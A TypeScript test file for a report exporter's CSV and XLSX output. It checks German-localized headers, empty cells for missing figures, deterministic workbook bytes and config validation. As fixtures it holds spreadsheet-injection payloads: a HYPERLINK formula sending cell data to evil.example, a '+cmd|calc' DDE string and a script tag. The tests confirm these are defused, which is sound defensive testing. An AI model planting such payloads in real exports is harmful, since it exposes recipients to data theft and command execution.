// The report's tables as spreadsheets (docs/reports.md, "Spreadsheets"): CSV read back by DuckDB's
// CSV reader, the workbook read back by exceljs (the library that writes it); hostile strings from
// the API defused; a missing figure an empty cell with its reason, never 0; same data, same bytes.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { ConfigError, readConfig } from '../src/config/read-config.js';
import { attachedFormats } from '../src/delivery/scheduled/send.js';
import { writtenFormats } from '../src/delivery/scheduled/steps.js';
import { KPI_KEYS } from '../src/report/model/report-shape.js';
import { storeTarget } from '../src/report/output.js';
import { defaultReportSettings } from '../src/report/settings.js';
import { DEFAULT_STYLE } from '../src/report/style.js';
import { defused, tableCsv } from '../src/report/tables/csv.js';
import { reportTables, TABLE_NAMES, workbookFacts } from '../src/report/tables/report-tables.js';
import { sheetNames } from '../src/report/tables/sheet-names.js';
import { tablesXlsx } from '../src/report/tables/xlsx.js';
import { FsObjectStore } from '../src/sinks/fs-store.js';
import * as h from './helpers/harness.js';
import { report } from './helpers/report-workspace.js';

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const SCRIPT = '<script>alert(1)</script>';
const DE = { ...DEFAULT_STYLE, locale: 'de-DE' };
const FACTS = {
  day: '2026-10-08',
  author: 'Agentur',
  title: 'Client One: 5.-8. Oktober 2026',
  points: { before: '', after: ' Pp.' },
};

afterEach(() => {
  vi.useRealTimers();
});

async function readWorkbook(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

describe('report tables', () => {
  const r = report({ open: [HOSTILE, SCRIPT], losses: ['+cmd|calc', '@SUM(1)', 'Acme'] });

  it('has every section the page shows, headers in the locale, no soft hyphen', () => {
    const tables = reportTables(r, DE);
    expect(tables.map((t) => t.name)).toEqual([...TABLE_NAMES]);
    const trend = tables.find((t) => t.name === 'trend')!;
    expect(trend.title).toBe('Verlauf');
    expect(trend.columns.map((c) => c.header)).toEqual([
      'Tag',
      'Gesamtwert',
      'Share of Voice',
      'Vergleichstag',
      'Gesamtwert zuvor',
      'Share of Voice zuvor',
    ]);
    const shown = reportTables(r, { ...DE, sections: ['cover', 'kpis'] });
    expect(shown.map((t) => t.name)).toEqual(['report', 'kpis']);
  });

  it('the Report table says why a section is empty, for the sections shown only', () => {
    const gap = report({ money: null });
    const notes = (sections: typeof DE.sections) =>
      reportTables(gap, { ...DE, sections })[0]!
        .rows.filter((row) => row[0] === 'Hinweis')
        .map((row) => row[1]);
    expect(notes(DE.sections)).toContain('Kaufabsicht: Für diesen Zeitraum ist kein Stand bekannt.');
    expect(notes(['kpis'])).toEqual([
      'In den CSV-Dateien steht Share of Voice in Prozent: 35.2 bedeutet 35,2\u00a0%.',
      'Eine Veränderung des Share of Voice steht in Prozentpunkten (-4.5 bedeutet \u22124,5 Pp.).',
    ]);
    expect(notes(['engines'])).toEqual([]);
  });

  it("a text from the API says the client's name as the page does: renamed when reports.clientName is set", () => {
    const named = report({ open: ['Client One: FAQ ergänzen'] });
    const titles = (t: ReturnType<typeof reportTables>) =>
      t.find((x) => x.name === 'recommendations_open')!.rows.map((row) => row[1]);
    expect(titles(reportTables(named, DE, 'Client One'))).toEqual(['Client One: FAQ ergänzen']);
    expect(titles(reportTables(named, { ...DE, clientName: 'Kunde Eins' }, 'Client One'))).toEqual([
      'Kunde Eins: FAQ ergänzen',
    ]);
  });

  it('a missing figure is an empty cell with its reason, never 0', () => {
    const gap = report({ money: null });
    const kpis = reportTables(gap, DE).find((t) => t.name === 'kpis')!;
    const money = kpis.rows.find((row) => String(row[0]).startsWith('Sichtbarkeit bei Kauf'))!;
    expect(money[1]).toBeNull();
    expect(money[3]).toBeNull();
    expect(money[4]).toBe('Kein Wert für diesen Zeitraum');
  });

  it('CSV: RFC 4180 with a BOM, formula starts defused, read back by DuckDB', async () => {
    const tables = reportTables(r, DE);
    const dir = h.tempDir();
    const open = tables.find((t) => t.name === 'recommendations_open')!;
    const text = tableCsv(open);
    expect(text.startsWith('\uFEFFPriorität,Empfehlung,Kategorie,Wirkung\r\n')).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(text).toContain(SCRIPT);
    expect(defused('-3.2')).toBe("'-3.2");
    expect(defused('\tx')).toBe("'\tx");
    expect(defused('Acme')).toBe('Acme');
    const losses = tables.find((t) => t.name === 'losses')!;
    const trend = tables.find((t) => t.name === 'trend')!;
    for (const t of [open, losses, trend]) writeFileSync(join(dir, `${t.name}.csv`), tableCsv(t));
    const db = await DuckDBInstance.create(':memory:');
    const c = await db.connect();
    try {
      const rows = async (sql: string) => (await c.runAndReadAll(sql)).getRowObjectsJson();
      const recs = await rows(
        `SELECT * FROM read_csv('${join(dir, 'recommendations_open.csv')}', header = true)`,
      );
      expect(recs.map((x) => x.Empfehlung)).toEqual([`'${HOSTILE}`, SCRIPT]);
      const lost = await rows(`SELECT Gewinner FROM read_csv('${join(dir, 'losses.csv')}', header = true)`);
      expect(lost.map((x) => x.Gewinner).sort()).toEqual(["'+cmd|calc", "'@SUM(1)", 'Acme'].sort());
      // Numbers machine-readable whatever the locale: a dot, unrounded, and typed as numbers.
      const days = await rows(
        `SELECT Tag, "Gesamtwert", typeof("Gesamtwert") AS t FROM read_csv('${join(dir, 'trend.csv')}', header = true) ORDER BY Tag`,
      );
      expect(days.map((x) => [x.Tag, x.Gesamtwert, x.t])).toEqual([
        ['2026-10-05', 52, 'DOUBLE'],
        ['2026-10-06', 50, 'DOUBLE'],
        ['2026-10-07', 49, 'DOUBLE'],
        ['2026-10-08', 47.5, 'DOUBLE'],
      ]);
    } finally {
      c.closeSync();
      db.closeSync();
    }
  });

  it('XLSX: a sheet per table, numbers and dates typed, text never a formula, same bytes at any time', async () => {
    const tables = reportTables(r, DE);
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date('2027-01-01T10:00:00Z'));
    const one = await tablesXlsx(tables, FACTS);
    vi.setSystemTime(new Date('2031-06-15T23:59:58Z'));
    const two = await tablesXlsx(tables, FACTS);
    vi.useRealTimers();
    expect(two.equals(one)).toBe(true);
    const wb = await readWorkbook(one);
    expect(wb.worksheets.map((w) => w.name)).toEqual(sheetNames(tables.map((t) => t.title)));
    expect(wb.created?.toISOString()).toBe('2026-10-08T00:00:00.000Z');
    const trend = wb.getWorksheet('Verlauf')!;
    expect(trend.getRow(1).values).toEqual([
      undefined,
      'Tag',
      'Gesamtwert',
      'Share of Voice',
      'Vergleichstag',
      'Gesamtwert zuvor',
      'Share of Voice zuvor',
    ]);
    const day = trend.getCell('A2');
    expect(day.type).toBe(ExcelJS.ValueType.Date);
    expect((day.value as Date).toISOString()).toBe('2026-10-05T00:00:00.000Z');
    const score = trend.getCell('B5');
    expect([score.type, score.value, score.numFmt]).toEqual([ExcelJS.ValueType.Number, 47.5, '0.0']);
    // Share of voice 30 (percent) is the fraction 0.3 shown as a percentage.
    const share = trend.getCell('C2');
    expect([share.value, share.numFmt]).toEqual([0.3, '0.0%']);
    // Key figures: scores at one decimal, counts whole, the share of voice a percentage.
    const kpis = wb.getWorksheet('Kennzahlen')!;
    const kpi = (start: string) =>
      kpis.getRows(2, 8)!.find((x) => String(x.getCell(1).value).startsWith(start))!;
    expect([
      kpi('Gesamtwert (Mittel').getCell(2).numFmt,
      kpi('Gesamtwert (Mittel').getCell(4).numFmt,
    ]).toEqual(['0.0', '+0.0;-0.0;0.0']);
    expect([
      kpi('Offene Empfehlungen').getCell(2).value,
      kpi('Offene Empfehlungen').getCell(2).numFmt,
    ]).toEqual([2, '0']);
    expect([kpi('Share of Voice').getCell(2).value, kpi('Share of Voice').getCell(2).numFmt]).toEqual([
      0.3,
      '0.0%',
    ]);
    expect(wb.getWorksheet('Im Zeitraum erledigt oder…')).toBeDefined();
    const recs = wb.getWorksheet('Offen, nach Priorität')!;
    const hostile = recs.getCell('B2');
    expect([hostile.type, hostile.value]).toEqual([ExcelJS.ValueType.String, HOSTILE]);
    expect(recs.getCell('B3').value).toBe(SCRIPT);
  });

  it('XLSX: a missing figure is an empty cell, and a control character does not break the file', async () => {
    const gap = report({ money: null, open: ['bell\u0007 title'] });
    const facts = { ...FACTS, title: 'Client <b>&"One"\u0007', author: "O'Brien & <Co>" };
    const wb = await readWorkbook(await tablesXlsx(reportTables(gap, DE), facts));
    expect([wb.title, wb.creator]).toEqual(['Client <b>&"One"', "O'Brien & <Co>"]);
    const kpis = wb.getWorksheet('Kennzahlen')!;
    const row = kpis
      .getRows(2, 8)!
      .find((x) => String(x.getCell(1).value).startsWith('Sichtbarkeit bei Kauf'))!;
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Null);
    expect(row.getCell(5).value).toBe('Kein Wert für diesen Zeitraum');
    expect(wb.getWorksheet('Offen, nach Priorität')!.getCell('B2').value).toBe('bell title');
  });

  it('XLSX: a change of share of voice reads in percentage points in the locale, like the page', async () => {
    // Share of voice 30 % after 34.5 %: a fall of 4.5 points (a relative change would be −13 %).
    const sov = { ...r.kpis.share_of_voice, value: 30, previous: 34.5, delta: -4.5, comparable: true };
    const fell = { ...r, kpis: { ...r.kpis, share_of_voice: sov } };
    const kpisOf = async (style: typeof DE) => {
      const tables = reportTables(fell, style);
      const wb = await readWorkbook(await tablesXlsx(tables, workbookFacts(fell, style)));
      return wb.getWorksheet(tables[1]!.title)!;
    };
    // The key figures' rows in KPI_KEYS order, under the header row.
    const shareRow = (ws: ExcelJS.Worksheet) => ws.getRow(KPI_KEYS.indexOf('share_of_voice') + 2);
    const delta = -4.5;
    const de = shareRow(await kpisOf(DE)).getCell(4);
    // The change is stored in points (not the fraction a "%" format shows as a relative change).
    expect([de.type, de.value, de.numFmt]).toEqual([
      ExcelJS.ValueType.Number,
      delta,
      '+0.0" Pp.";-0.0" Pp.";0.0" Pp."',
    ]);
    const en = shareRow(await kpisOf({ ...DE, locale: 'en-US' })).getCell(4);
    expect([en.value, en.numFmt]).toEqual([delta, '+0.0" pp";-0.0" pp";0.0" pp"']);
    // A "%" inside the quoted unit is literal: the value is not scaled.
    const nl = shareRow(await kpisOf({ ...DE, locale: 'nl-NL' })).getCell(4);
    expect([nl.value, nl.numFmt]).toEqual([delta, '+0.0" %-punt";-0.0" %-punt";0.0" %-punt"']);
    // A score's change keeps its plain signed format.
    expect((await kpisOf(DE)).getRow(2).getCell(4).numFmt).toBe('+0.0;-0.0;0.0');
  });

  it('CSV: the Report table says a change of share of voice is in percentage points', () => {
    const about = reportTables(r, { ...DE, sections: ['cover', 'kpis'] })[0]!;
    expect(about.rows.filter((row) => row[0] === 'Hinweis').map((row) => row[1])).toEqual([
      'In den CSV-Dateien steht Share of Voice in Prozent: 35.2 bedeutet 35,2\u00a0%.',
      'Eine Veränderung des Share of Voice steht in Prozentpunkten (-4.5 bedeutet \u22124,5 Pp.).',
    ]);
    const trendOnly = reportTables(r, { ...DE, sections: ['cover', 'trend'] })[0]!;
    expect(trendOnly.rows.map((row) => row[1])).not.toContainEqual(expect.stringContaining('Prozentpunkt'));
  });

  it('an overview rewritten without its PDF drops overview.pdf from the store, and deletes no table it never had', async () => {
    const store = new FsObjectStore(h.tempDir());
    const deleted: string[] = [];
    const remove = store.delete.bind(store);
    store.delete = (key) => {
      deleted.push(key);
      return remove(key);
    };
    const target = storeTarget(store);
    const html = { format: 'html', body: '<p>' } as const;
    await target.writeOverview('acme', '2026-11', [html, { format: 'pdf', body: '%PDF-' }]);
    await target.writeOverview('acme', '2026-11', [html]);
    const folder = 'reports/account=acme/period=2026-11/';
    expect(deleted.filter((k) => k.includes('/tables/'))).toEqual([]);
    expect(deleted).toContain(`${folder}overview.pdf`);
    expect(await store.list(folder)).not.toContain(`${folder}overview.pdf`);
  });

  it('sheet names: cut to 31 characters, no forbidden character, unique', () => {
    expect(sheetNames(['A/B: c?', 'x'.repeat(40), 'Engines', 'engines', "'quoted'"])).toEqual([
      'A B c',
      `${'x'.repeat(30)}…`,
      'Engines',
      'engines (2)',
      'quoted',
    ]);
  });

  it('reports.attach: the listed files the version has, else the one file mailed before', () => {
    expect(attachedFormats(['html', 'json', 'pdf', 'xlsx'], ['pdf', 'xlsx'])).toEqual(['pdf', 'xlsx']);
    expect(attachedFormats(['html', 'json', 'xlsx'], ['pdf', 'xlsx'])).toEqual(['xlsx']);
    expect(attachedFormats(['html', 'json', 'pdf'], undefined)).toEqual(['pdf']);
    expect(attachedFormats(['html', 'json'], ['xlsx'])).toEqual(['html']);
    // A scheduled make writes what the mail attaches, whatever formats says.
    expect(writtenFormats({ ...defaultReportSettings(), formats: ['html'], attach: ['xlsx'] })).toEqual([
      'html',
      'xlsx',
      'json',
    ]);
  });

  it('a bad reports.attach is a ConfigError (exit 78) naming the key', () => {
    const dir = h.tempDir();
    const file = join(dir, 'visync.yaml');
    const bad = (attach: string) => {
      writeFileSync(
        file,
        `accounts:\n  - name: acme\n    apiKey: k-acme-0123456789\n    baseUrl: https://visibility.example/api/v1\nsinks:\n  fs: {}\nreports:\n  attach: ${attach}\n`,
      );
      try {
        readConfig(file, {}, () => {});
      } catch (err) {
        expect(err).toBeInstanceOf(ConfigError);
        return (err as ConfigError).issues.map((i) => `${i.path}: ${i.message}`);
      }
      throw new Error('expected a ConfigError');
    };
    expect(bad('[pdf, docx]')).toEqual(['reports.attach.1: expected one of pdf, html, json, xlsx']);
    expect(bad('[csv]')).toEqual(['reports.attach.0: expected one of pdf, html, json, xlsx']);
    expect(bad('[xlsx, xlsx]')).toEqual(['reports.attach: attachments must be unique']);
    expect(bad('xlsx')).toEqual(['reports.attach: expected a list of attachments: pdf, html, json, xlsx']);
  });
});
